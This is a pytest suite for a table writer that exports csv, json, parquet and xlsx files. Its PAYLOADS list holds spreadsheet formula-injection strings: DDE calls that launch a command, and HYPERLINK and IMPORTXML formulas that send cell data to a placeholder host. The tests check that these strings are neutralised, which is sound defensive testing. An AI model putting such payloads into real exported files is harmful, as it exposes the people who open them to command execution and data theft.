"""Tables written as csv, json, parquet and xlsx, and opened again by other programs."""

import csv
import datetime as dt
import hashlib
import json
import resource
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pandas as pd
import pyarrow.parquet as pq
import pytest

from shixiao.engine import Engine, open_engine, quote
from shixiao.publication.tables import write_table
from shixiao.vocabulary.problems import Problem

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.com?x="&A1,"点我")',
    '=IMPORTXML(CONCAT("http://example.com",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    '=1+1";=1+1',
]

TYPED = (
    "SELECT '张大姐' AS name, CAST(3 AS BIGINT) AS reported, CAST(-5 AS INTEGER) AS change, "
    "CAST(0.5384615384615384 AS DOUBLE) AS padding_rate, CAST(3450.50 AS DECIMAL(12, 2)) AS paid_yuan, "
    "DATE '2026-03-05' AS counted_on, TIMESTAMP '2026-03-05 08:30:00' AS signed_at, TRUE AS certified, "
    "CAST(990101199001011230 AS BIGINT) AS large, ['甲', '乙'] AS listed, 'a,\"b\"' AS quoted, "
    "CAST(NULL AS VARCHAR) AS nothing"
)


@pytest.fixture
def engine() -> Iterator[Engine]:
    with open_engine() as opened:
        yield opened


def texts(values: list[str]) -> str:
    return (
        " UNION ALL ".join(f"SELECT {at} AS line, {quote(value)} AS words" for at, value in enumerate(values))
        + " ORDER BY line"
    )


def sheet_of(path: Path) -> list[tuple[object, ...]]:
    return list(openpyxl.load_workbook(path).worksheets[0].iter_rows(values_only=True))


def test_csv_is_a_plain_table_of_utf8(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.csv"
    write_table(engine, TYPED, path, title="表", notes=[("运行", "1")])
    with path.open(encoding="utf-8", newline="") as file:
        header, row = csv.reader(file)
    assert header[:3] == ["name", "reported", "change"]
    assert row == [
        "张大姐", "3", "-5", "0.5384615384615384", "3450.50", "2026-03-05", "2026-03-05 08:30:00", "true",
        "990101199001011230", '["甲","乙"]', 'a,"b"', "",
    ]  # fmt: skip


def test_csv_keeps_numbers_numbers(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.csv"
    write_table(engine, TYPED, path, title="表")
    frame = pd.read_csv(path)
    assert frame["change"].tolist() == [-5]
    assert frame["padding_rate"].tolist() == [0.5384615384615384]


def test_json_is_a_list_of_objects(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.json"
    write_table(engine, f"{TYPED} UNION ALL {TYPED}", path, title="表")
    first, second = json.loads(path.read_text("utf-8"))
    assert first == second
    assert first["name"] == "张大姐"
    assert (first["change"], first["paid_yuan"], first["counted_on"], first["certified"]) == (
        -5,
        3450.5,
        "2026-03-05",
        True,
    )
    assert (first["signed_at"], first["listed"], first["nothing"]) == ("2026-03-05 08:30:00", ["甲", "乙"], None)


@pytest.mark.parametrize(("ending", "content"), [(".json", "[]\n"), (".csv", '"a","b"\n')])
def test_an_empty_table_is_still_a_table(engine: Engine, tmp_path: Path, ending: str, content: str) -> None:
    path = tmp_path / f"空{ending}"
    write_table(engine, "SELECT 1 AS a, '' AS b LIMIT 0", path, title="空")
    assert path.read_text("utf-8") == content


def test_parquet_keeps_types_and_order(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.parquet"
    write_table(
        engine,
        "SELECT CAST(30000 - i AS INTEGER) AS line, DATE '2026-03-05' AS day FROM range(30000) AS t(i)",
        path,
        title="表",
    )
    table = pq.read_table(path)
    assert table["line"].to_pylist() == list(range(30_000, 0, -1))
    assert table["day"][0].as_py() == dt.date(2026, 3, 5)


def test_xlsx_has_chinese_headings_and_typed_cells(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.xlsx"
    write_table(engine, TYPED, path, title="指标/数")
    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["指标 数", "说明"]
    sheet = book.worksheets[0]
    header, row = sheet.iter_rows()
    assert [cell.value for cell in header][:4] == ["name", "上报", "change", "挤水率"]
    assert [cell.value for cell in row] == [
        "张大姐", 3, -5, 0.5384615384615384, 3450.5, dt.datetime.fromisoformat("2026-03-05"),
        dt.datetime.fromisoformat("2026-03-05 08:30"), "是", "990101199001011230", '["甲","乙"]', 'a,"b"', None,
    ]  # fmt: skip
    assert row[3].number_format == "0.0%"
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:L2")
    assert sheet.print_title_rows == "$1:$1"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize, sheet.page_setup.fitToHeight) == (
        "landscape",
        9,
        0,
    )


def test_xlsx_says_where_it_comes_from(engine: Engine, tmp_path: Path) -> None:
    notes = [("口径版本", "2020-01-01"), ("运行编号", "=1+1"), ("读者", "王科长")]
    write_table(engine, TYPED, tmp_path / "表.xlsx", title="指标数", notes=notes)
    write_table(engine, TYPED, tmp_path / "表.csv", title="指标数", notes=notes)
    told = list(openpyxl.load_workbook(tmp_path / "表.xlsx")["说明"].iter_rows(values_only=True))
    assert told[:5] == [("表", "指标数"), *notes, ("行数", "1")]
    assert told[5][1] == hashlib.sha256((tmp_path / "表.csv").read_bytes()).hexdigest()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_csv(engine: Engine, tmp_path: Path, payload: str) -> None:
    path = tmp_path / "表.csv"
    write_table(engine, texts([payload, "张大姐"]), path, title="表")
    with path.open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert rows[1:] == [["0", f"'{payload}"], ["1", "张大姐"]]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_becomes_a_formula_in_xlsx(engine: Engine, tmp_path: Path, payload: str) -> None:
    path = tmp_path / "表.xlsx"
    write_table(engine, texts([payload]), path, title=payload, notes=[(payload, payload)])
    book = openpyxl.load_workbook(path)
    cell = book.worksheets[0]["B2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (payload.replace("\r", "_x000D_"), "s", True)
    with zipfile.ZipFile(path) as package:
        sheets = [package.read(name) for name in package.namelist() if "sheets/sheet" in name]
        assert not any(b"<f>" in sheet or b"<hyperlink" in sheet for sheet in sheets)


def test_addresses_and_digits_stay_text_in_xlsx(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.xlsx"
    values = ["http://example.com", "0012", "990101199001011230", "1e5", ""]
    write_table(engine, texts(values), path, title="表")
    assert [row[1] for row in sheet_of(path)[1:]] == [*values[:-1], None]
    assert openpyxl.load_workbook(path).worksheets[0]["B2"].hyperlink is None


def test_a_text_too_long_for_a_cell_is_cut_and_says_so(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.xlsx"
    write_table(engine, "SELECT repeat('长', 40000) AS words", path, title="表")
    words = str(sheet_of(path)[1][0])
    assert len(words) == 32_767
    assert words.endswith("……（已截断）")


def test_days_before_excels_calendar_stay_text(engine: Engine, tmp_path: Path) -> None:
    path = tmp_path / "表.xlsx"
    write_table(
        engine,
        "SELECT DATE '1899-05-01' AS a, CAST('NaN' AS DOUBLE) AS b, CAST('inf' AS DOUBLE) AS c",
        path,
        title="表",
    )
    assert sheet_of(path)[1] == ("1899-05-01", None, "inf")


def test_more_rows_than_a_sheet_holds_are_refused(engine: Engine, tmp_path: Path) -> None:
    with pytest.raises(Problem, match="最多放 1048575 行"):
        write_table(engine, "SELECT 1 AS a FROM range(1048576)", tmp_path / "表.xlsx", title="表")
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(("name", "shown"), [("表.docx", "不会写 .docx 这种文件"), ("表", "不会写没有后缀这种文件")])
def test_an_unknown_ending_is_refused(engine: Engine, tmp_path: Path, name: str, shown: str) -> None:
    with pytest.raises(Problem, match=shown):
        write_table(engine, TYPED, tmp_path / name, title="表")


def test_a_missing_folder_is_named(engine: Engine, tmp_path: Path) -> None:
    with pytest.raises(Problem, match="没有这个文件夹"):
        write_table(engine, TYPED, tmp_path / "没有" / "表.csv", title="表")


@pytest.mark.parametrize("ending", [".csv", ".xlsx"])
def test_a_folder_of_that_name_is_not_overwritten(engine: Engine, tmp_path: Path, ending: str) -> None:
    (tmp_path / f"表{ending}").mkdir()
    with pytest.raises(Problem, match="同名的文件夹"):
        write_table(engine, TYPED, tmp_path / f"表{ending}", title="表")


FULL_DISK = """
import resource, sys
from pathlib import Path
from shixiao.engine import open_engine
from shixiao.publication.tables import write_table
from shixiao.vocabulary.problems import Problem
with open_engine() as engine:
    sql = "SELECT i AS a, md5(CAST(i AS VARCHAR)) AS b FROM range(20000) AS t(i)"
    engine.arrow(sql)
    resource.setrlimit(resource.RLIMIT_FSIZE, (50_000, resource.RLIM_INFINITY))
    try:
        write_table(engine, sql, Path(sys.argv[1]), title="表")
    except Problem as problem:
        print(problem)
        sys.exit(problem.exit_status)
"""


@pytest.mark.parametrize("ending", [".csv", ".json", ".parquet", ".xlsx"])
def test_a_file_that_does_not_fit_leaves_the_earlier_one(tmp_path: Path, ending: str) -> None:
    path = tmp_path / f"表{ending}"
    path.write_text("先前的内容")
    done = subprocess.run([sys.executable, "-c", FULL_DISK, path], capture_output=True, text=True, check=False)
    assert done.returncode == 2, done.stderr
    assert "磁盘满了" in done.stdout
    assert path.read_text() == "先前的内容"
    assert list(tmp_path.iterdir()) == [path]
    assert resource.getrlimit(resource.RLIMIT_FSIZE)[0] == resource.RLIM_INFINITY
